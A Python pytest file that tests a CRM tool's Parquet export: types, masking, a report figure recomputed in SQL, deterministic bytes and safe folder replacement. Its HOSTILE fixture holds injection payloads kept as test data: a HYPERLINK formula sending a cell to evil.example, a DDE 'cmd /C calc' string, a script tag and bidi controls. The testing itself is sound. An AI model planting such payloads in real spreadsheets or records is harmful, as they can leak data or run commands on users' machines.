"""crm export --format parquet (plaincrm.columnar): the sample's tables read back by DuckDB (and pandas, Polars
when installed), typed as declared, masked as crm export masks, a report's figure recomputed in SQL, hostile text
kept as written, the same bytes for the same records and "today", and the folder replaced whole or not at all."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plaincrm import columnar, reports
from plaincrm.dataset import load_dataset
from plaincrm.problems import ProblemError
from plaincrm.project import Project
from plaincrm.views import derive

from .conftest import REPO, make_repo
from .sitekit import make_site_repo
from .test_history import _crm

duckdb = pytest.importorskip("duckdb", reason="the analytics tests read Parquet back with DuckDB: pip install duckdb")
pytest.importorskip("pyarrow", reason="Parquet export is the analytics extra: pip install 'plaincrm[analytics]'")

TODAY = date(2026, 6, 30)
DUCKDB_TYPES = {
    "string": "VARCHAR",
    "text": "VARCHAR",
    "int": "BIGINT",
    "float": "DOUBLE",
    "bool": "BOOLEAN",
    "date": "DATE",
    "money": "DECIMAL(18,2)",
}


def _views(root: Path, today: date = TODAY, *, masked: bool = True):
    return derive(load_dataset(Project(root), masked=masked), today)


@pytest.fixture(scope="module")
def sample(tmp_path_factory):
    """The shipped sample records, exported once: (repository, views, folder, the paths written)."""
    root = make_site_repo(tmp_path_factory.mktemp("sample"))
    views = _views(root)
    out = root / "tables"
    return root, views, out, columnar.write_parquet(views, out)


def _sql(out: Path):
    con = duckdb.connect()
    for path in sorted(out.glob("*.parquet")):
        con.execute(f"CREATE VIEW {path.stem} AS SELECT * FROM read_parquet('{path}')")
    return con


def test_a_table_per_list_with_every_item(sample):
    root, views, out, paths = sample
    project = views.dataset.project
    lists = list(columnar.list_tables(project))
    assert lists == ["contacts", "interactions", "key_dates", "orders", "service_cases"]
    assert [p.name for p in paths] == ["customers.parquet", *(f"{n}.parquet" for n in lists), "options.parquet"]
    assert sorted(p.name for p in out.iterdir()) == sorted(p.name for p in paths)  # nothing else, no temporary
    assert not [p for p in out.parent.iterdir() if p.name.startswith(".tables.")]
    con = _sql(out)
    assert con.execute("SELECT count(*) FROM customers").fetchone()[0] == len(views.customers) == 41
    for name in lists:
        expected = sum(len(getattr(v.model, name)) for v in views.customers.values())
        assert expected > 0 and con.execute(f"SELECT count(*) FROM {name}").fetchone()[0] == expected, name
        # each row names its customer and its place in that customer's list, once
        assert con.execute(f"SELECT count(DISTINCT (customer_id, position)) FROM {name}").fetchone()[0] == expected
    first = next(iter(views.customers.values()))
    row = con.execute(
        "SELECT position, date, topic FROM interactions WHERE customer_id = ? ORDER BY position", [first.id]
    )
    assert row.fetchall() == [(i, x.date, x.topic) for i, x in enumerate(first.model.interactions, 1)]
    options = {(r[0], r[1]): r[2:] for r in con.execute("SELECT * FROM options").fetchall()}
    assert options[("cooperation", "active")] == ("Active", "合作中") and ("tier", "key") in options


def test_columns_are_typed_as_declared(sample):
    _, views, out, _ = sample
    project = views.dataset.project
    con = _sql(out)
    shapes = {"customers": columnar.customer_columns(project)}
    shapes |= {n: columnar.item_columns(n, item) for n, (item, _, _) in columnar.list_tables(project).items()}
    for name, columns in shapes.items():
        described = {r[0]: r[1] for r in con.execute(f"DESCRIBE {name}").fetchall()}
        declared = {c.name: DUCKDB_TYPES[c.kind] + ("[]" if c.many else "") for c in columns}
        assert described == declared, name
    customers = {r[0]: r[1] for r in con.execute("DESCRIBE customers").fetchall()}
    assert customers["last_contact"] == "DATE" and customers["order_total"] == "DOUBLE"
    assert customers["tags"] == "VARCHAR[]" and customers["satisfaction"] == "BIGINT"
    assert customers["size_employees"] == "VARCHAR" and "size.employees" not in customers  # flattened as crm export
    orders = {r[0]: r[1] for r in con.execute("DESCRIBE orders").fetchall()}
    assert orders["amount"] == "DECIMAL(18,2)" and orders["counted"] == "BOOLEAN" and orders["date"] == "DATE"
    interactions = {r[0]: r[1] for r in con.execute("DESCRIBE interactions").fetchall()}
    assert interactions["by"] == "VARCHAR[]" and interactions["next_step_due"] == "DATE"
    # the field list is crm export's: every CSV column is here, the nested ones flattened with _
    from plaincrm.records_export import column_headers

    assert [t.replace(".", "_") for _, t in column_headers(project, "en")] == list(customers)


def test_labels_and_provenance_are_in_the_metadata(sample):
    import pyarrow.parquet as pq

    _, views, out, _ = sample
    schema = pq.read_schema(out / "orders.parquet")
    meta = {k.decode(): v.decode() for k, v in schema.metadata.items() if k.startswith(b"plaincrm.")}
    assert meta["plaincrm.today"] == "2026-06-30" and meta["plaincrm.masked"] == "true"
    assert meta["plaincrm.version"] == columnar.version() and meta["plaincrm.default_currency"] == "CNY"
    assert meta["plaincrm.table"] == "orders" and meta["plaincrm.label_zh"] == "订单"
    status = schema.field("status").metadata
    assert status == {b"label_en": b"Status", b"label_zh": "状态".encode(), b"options": b"order_status"}
    customers = pq.read_schema(out / "customers.parquet")
    assert customers.field("size_employees").metadata[b"label_zh"] == "企业规模 · 员工数".encode()
    assert customers.field("tier").metadata[b"options"] == b"tier"
    assert not customers.field("id").nullable and customers.field("city").nullable


def test_the_top_share_in_sql_is_the_reports(sample):
    """The high_value report's top-20% revenue share, recomputed from the tables alone: customers ⋈ orders."""
    root, views, out, _ = sample
    con = _sql(out)
    totals = dict(
        con.execute(
            """SELECT c.id, coalesce(sum(o.amount_in_default_currency) FILTER (WHERE o.counted), 0)
               FROM customers c LEFT JOIN orders o ON o.customer_id = c.id GROUP BY c.id"""
        ).fetchall()
    )
    stored = dict(con.execute("SELECT id, order_total FROM customers").fetchall())
    assert totals.keys() == stored.keys() and all(abs(totals[i] - stored[i]) < 0.01 for i in totals)
    top, total = con.execute(
        """WITH totals AS (
               SELECT c.id, coalesce(sum(o.amount_in_default_currency) FILTER (WHERE o.counted), 0) AS total
               FROM customers c LEFT JOIN orders o ON o.customer_id = c.id GROUP BY c.id),
           ranked AS (SELECT *, row_number() OVER (ORDER BY total DESC, id) AS rank, count(*) OVER () AS n FROM totals),
           cut AS (SELECT total AS cut FROM ranked WHERE rank = ceil(n * 0.2))
           SELECT sum(total) FILTER (WHERE total >= cut AND total > 0), sum(total) FROM ranked, cut"""
    ).fetchone()
    report = reports.high_value(views).tables[0].rows[0]
    code, printed, err = _crm(root, "report", "high_value", "--today", TODAY.isoformat(), "--format", "json")
    assert code == 0, err
    shown = json.loads(printed)[0]["tables"][0]["rows"][0]
    assert 0 < top / total < 1 and round(top / total, 4) == report[4] == shown["revenue share"]
    assert round(top, 2) == shown["their revenue"] and round(total, 2) == shown["total revenue"]
    # and exactly, in decimals: what the counted orders in CNY add up to
    exact = con.execute("SELECT sum(amount) FROM orders WHERE counted AND currency = 'CNY'").fetchone()[0]
    assert isinstance(exact, Decimal) and exact == sum(
        o.amount
        for v in views.customers.values()
        for o in v.model.orders
        if o.currency == "CNY" and o.status not in ("quoted", "cancelled") and o.date <= TODAY
    )


@pytest.fixture
def contact_repo(tmp_path):
    repo = make_repo(tmp_path / "repo")
    repo.good(**{"email: zhang@example.com}": "email: zhang@example.com, im: wx_zhang88}"})
    repo.good("C20240501002", "B有限公司")
    return repo


def test_masked_by_default_exactly_as_crm_export(contact_repo, tmp_path):
    """The same masked values as `crm export --format json`; whole ones only with unmasked (and unmasked views)."""
    code, printed, err = _crm(contact_repo.root, "export", "--format", "json", "--today", "2024-06-01")
    assert code == 0, err
    exported = json.loads(printed)[0]["contacts"][0]
    assert exported["phone"] == "138****5678" and exported["email"] == "z***@example.com" and exported["im"] == "w***"
    out = tmp_path / "masked"
    columnar.write_parquet(_views(contact_repo.root, date(2024, 6, 1)), out)
    row = duckdb.execute(
        f"SELECT phone, email, im FROM read_parquet('{out}/contacts.parquet') ORDER BY customer_id"
    ).fetchall()
    assert row[0] == (exported["phone"], exported["email"], exported["im"]) and len(row) == 2
    everything = b"".join(p.read_bytes() for p in out.iterdir())
    assert b"13812345678" not in everything and b"zhang@" not in everything and b"wx_zhang88" not in everything
    # views loaded unmasked are masked all the same unless unmasked is asked for
    columnar.write_parquet(_views(contact_repo.root, date(2024, 6, 1), masked=False), out)
    assert duckdb.execute(f"SELECT phone FROM read_parquet('{out}/contacts.parquet')").fetchone()[0] == "138****5678"
    whole = tmp_path / "whole"
    columnar.write_parquet(_views(contact_repo.root, date(2024, 6, 1), masked=False), whole, unmasked=True)
    con = _sql(whole)
    assert con.execute("SELECT phone, email, im FROM contacts ORDER BY customer_id").fetchone() == (
        "13812345678",
        "zhang@example.com",
        "wx_zhang88",
    )
    meta = duckdb.execute(
        f"SELECT value FROM parquet_kv_metadata('{whole}/contacts.parquet') WHERE key = 'plaincrm.masked'"
    )
    assert meta.fetchone()[0] == b"false"


def test_only_the_customers_asked_for(contact_repo, tmp_path):
    out = tmp_path / "one"
    columnar.write_parquet(_views(contact_repo.root), out, ids=["C20240501002"])
    con = _sql(out)
    for name in ("customers", "contacts", "interactions", "key_dates"):
        key = "id" if name == "customers" else "customer_id"
        assert con.execute(f"SELECT DISTINCT {key} FROM {name}").fetchall() == [("C20240501002",)], name
    assert con.execute("SELECT count(*) FROM orders").fetchone()[0] == 0  # an empty table keeps its columns
    assert dict(con.execute("DESCRIBE orders").fetchall()[i][:2] for i in range(5))["amount"] == "DECIMAL(18,2)"


HOSTILE = """\
id: C20240501001
kind: company
name: '=HYPERLINK("http://evil.example/?"&A1,"点我")'
industry: software_it
source: online_ads
category: potential
cooperation: not_started
owner: li.wei
tags: ["@SUM(1+1)*cmd|' /C calc'!A0", "a, \\"b\\"", " padded "]
notes: "\\u202eevil\\u202c \\u2066isolated\\u2069 \\u200f\\u061c <script>alert(1)</script> \\x1b[31m \\t\\r\\n"
needs: "{long}"
contacts:
  - {{name: "+cmd", title: "-2+3", phone: "13812345678"}}
"""


def test_hostile_text_round_trips_unchanged(tmp_path):
    """Parquet is data, not text for a reader to interpret: a formula, bidi controls, markup, an escape sequence
    and a long text come back exactly as the record has them, nothing escaped and nothing guarded."""
    repo = make_repo(tmp_path / "repo")
    long = "客户需求说明：" * 30000 + "end"
    repo.write("C20240501001.yaml", HOSTILE.format(long=long), dedent=False)
    views = _views(repo.root)
    model = views.customers["C20240501001"].model
    out = tmp_path / "out"
    columnar.write_parquet(views, out)
    row = duckdb.execute(f"SELECT name, tags, notes, needs FROM read_parquet('{out}/customers.parquet')").fetchone()
    assert row == (model.name, model.tags, model.notes, model.needs)
    assert row[0].startswith("=HYPERLINK(") and "\u202e" in row[2] and "\x1b[31m" in row[2] and len(row[3]) == len(long)
    contact = duckdb.execute(f"SELECT name, title FROM read_parquet('{out}/contacts.parquet')").fetchone()
    assert contact == ("+cmd", "-2+3")


def _yaml_quoted(text: str) -> str:
    """`text` as a YAML double-quoted scalar on one line: what YAML would fold or refuse, escaped."""
    out = []
    for ch in text:
        code = ord(ch)
        if ch in '"\\':
            out.append("\\" + ch)
        elif 0x20 <= code <= 0x7E or (0xA0 <= code <= 0xFFFD and ch not in "\u2028\u2029\ufeff") or code > 0xFFFF:
            out.append(ch)
        else:
            out.append(f"\\u{code:04x}")
    return '"' + "".join(out) + '"'


@settings(max_examples=25, deadline=None)
@given(
    text=st.text(
        alphabet=st.characters(blacklist_categories=("Cs", "Nd"), blacklist_characters="\x00"),
        max_size=200,
    )
)
def test_any_text_round_trips(tmp_path_factory, text):
    """Whatever a record's text holds (no digits here: those are the privacy lint's business), the table has it."""
    repo = make_repo(tmp_path_factory.mktemp("any"))
    repo.good(**{"needs: 需要服务器运维解决方案": f"needs: 需要\nnotes: {_yaml_quoted(text)}"})
    views = _views(repo.root)
    assert views.customers["C20240501001"].model.notes == text
    table = columnar.tables(views)["customers"]
    import pyarrow as pa
    import pyarrow.parquet as pq

    back = pq.read_table(pa.BufferReader(columnar.parquet_bytes(table)))
    assert back.column("notes").to_pylist() == [text]


def test_the_same_records_and_today_give_the_same_bytes(sample, tmp_path):
    """No clock and no random names in a file: two processes (different hash seeds, a second apart) agree."""
    root, _, out, _ = sample
    script = (
        "import sys; from datetime import date; from pathlib import Path; from plaincrm import columnar; "
        "from plaincrm.dataset import load_dataset; from plaincrm.project import Project; from plaincrm.views import derive; "
        "columnar.write_parquet(derive(load_dataset(Project(Path(sys.argv[1])), masked=True), date(2026, 6, 30)), Path(sys.argv[2]))"
    )
    for seed in ("1", "2"):
        env = {**os.environ, "PYTHONHASHSEED": seed}
        subprocess.run([sys.executable, "-c", script, str(root), str(tmp_path / seed)], check=True, env=env)
    first = {p.name: p.read_bytes() for p in (tmp_path / "1").iterdir()}
    assert first == {p.name: p.read_bytes() for p in (tmp_path / "2").iterdir()}
    assert first == {p.name: p.read_bytes() for p in out.iterdir()}
    other = derive(load_dataset(Project(root), masked=True), date(2026, 7, 1))
    assert columnar.parquet_bytes(columnar.tables(other)["orders"]) != first["orders.parquet"]  # today is in them


def test_the_folder_is_replaced_whole_and_never_through_a_link(sample, tmp_path, monkeypatch):
    _, views, _, _ = sample
    out = tmp_path / "tables"
    columnar.write_parquet(views, out)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    # a failure while writing leaves the earlier export as it was, and no temporary folder
    monkeypatch.setattr(columnar.os, "fsync", lambda fd: (_ for _ in ()).throw(OSError("disk full")))
    with pytest.raises(OSError, match="disk full"):
        columnar.write_parquet(views, out)
    monkeypatch.undo()
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["tables"]
    # a link, a file, or a folder holding something else: refused before anything is written
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    link = tmp_path / "link"
    link.symlink_to(elsewhere)
    with pytest.raises(ProblemError, match="symbolic link"):
        columnar.write_parquet(views, link)
    assert list(elsewhere.iterdir()) == [] and link.is_symlink()
    (out / "mine.txt").write_text("keep me")
    with pytest.raises(ProblemError, match=r"mine.txt:1:1: is not a table crm export wrote"):
        columnar.write_parquet(views, out)
    assert (out / "mine.txt").read_text() == "keep me"
    (out / "mine.txt").unlink()
    (out / "customers.parquet").unlink()
    (out / "customers.parquet").symlink_to(elsewhere / "x")
    with pytest.raises(ProblemError, match=r"customers.parquet:1:1: is not a table"):
        columnar.write_parquet(views, out)
    (tmp_path / "file").write_text("x")
    with pytest.raises(ProblemError, match="is not a folder"):
        columnar.write_parquet(views, tmp_path / "file")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["elsewhere", "file", "link", "tables"]


def test_an_amount_below_a_cent_is_refused_where_it_is_written(tmp_path):
    repo = make_repo(tmp_path / "repo")
    repo.good(**{"key_dates:": "orders:\n  - {date: 2024-05-20, item: 服务, amount: 980.125}\nkey_dates:"})
    views = _views(repo.root)
    with pytest.raises(ProblemError) as caught:
        columnar.write_parquet(views, tmp_path / "out")
    (problem,) = caught.value.problems
    assert (problem.file, problem.line, problem.field) == (
        "records/customers/C20240501001.yaml",
        22,
        "orders[0].amount",
    )
    assert "980.125 has more than 2 decimals" in problem.message and not (tmp_path / "out").exists()


def test_without_pyarrow_the_core_works_and_the_error_names_the_extra(sample, monkeypatch):
    found = subprocess.run(
        [sys.executable, "-c", "import sys, plaincrm.columnar, plaincrm.cli; print('pyarrow' in sys.modules)"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert found.stdout.strip() == "False"  # imported only when a table is made
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(columnar.NeedsAnalytics, match=r"pip install 'plaincrm\[analytics\]'"):
        columnar.tables(sample[1])


def test_names_and_types_every_reader_takes(sample):
    """Spark refuses column names with ` ,;{}()\\n\\t=` and has no unsigned integers; a dot would be its struct
    accessor. Every column here is a plain name of a type all four readers map."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    _, _, out, paths = sample
    for path in paths:
        for field in pq.read_schema(path):
            assert not set(field.name) & set(" ,;{}()\n\t=.") and field.name.isascii(), field.name
            kind = field.type.value_type if pa.types.is_list(field.type) else field.type
            assert any(
                check(kind)
                for check in (
                    pa.types.is_string,
                    pa.types.is_int64,
                    pa.types.is_float64,
                    pa.types.is_boolean,
                    pa.types.is_date32,
                    pa.types.is_decimal128,
                )
            ), field


def test_pandas_reads_the_tables(sample):
    pd = pytest.importorskip("pandas")
    _, views, out, _ = sample
    orders = pd.read_parquet(out / "orders.parquet")
    assert len(orders) == sum(len(v.model.orders) for v in views.customers.values())
    assert isinstance(orders["amount"].iloc[0], Decimal) and isinstance(orders["date"].iloc[0], date)
    customers = pd.read_parquet(out / "customers.parquet")
    assert list(customers["id"]) == list(views.customers)


def test_polars_reads_the_tables(sample):
    pl = pytest.importorskip("polars")
    _, views, out, _ = sample
    orders = pl.read_parquet(out / "orders.parquet")
    assert orders.schema["amount"] == pl.Decimal(18, 2) and orders.schema["date"] == pl.Date
    customers = pl.read_parquet(out / "customers.parquet")
    assert customers.schema["tags"] == pl.List(pl.String) and customers.height == len(views.customers)


def _export_formats() -> list[str]:
    from plaincrm.cli import build_parser

    commands = next(a for a in build_parser()._subparsers._group_actions if a.dest == "command")
    return list(next(a for a in commands.choices["export"]._actions if a.dest == "format").choices)


def test_crm_export_writes_the_folder(sample, tmp_path):
    """Through the command, once cli/reading.py offers --format parquet: the same bytes as the function writes."""
    if "parquet" not in _export_formats():
        pytest.skip("crm export --format parquet is not wired into cli/reading.py yet")
    root, _, tables, _ = sample
    out = tmp_path / "tables"
    code, _, err = _crm(root, "export", "--format", "parquet", "--out", str(out), "--today", TODAY.isoformat())
    assert code == 0, err
    assert {p.name: p.read_bytes() for p in out.iterdir()} == {p.name: p.read_bytes() for p in tables.iterdir()}


def test_core_dependencies_stay_small():
    """pyarrow and duckdb are not core dependencies: pyarrow is the analytics extra (pyproject.toml)."""
    import tomllib

    project = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    assert not [d for d in project["dependencies"] if d.lower().startswith(("pyarrow", "duckdb"))]
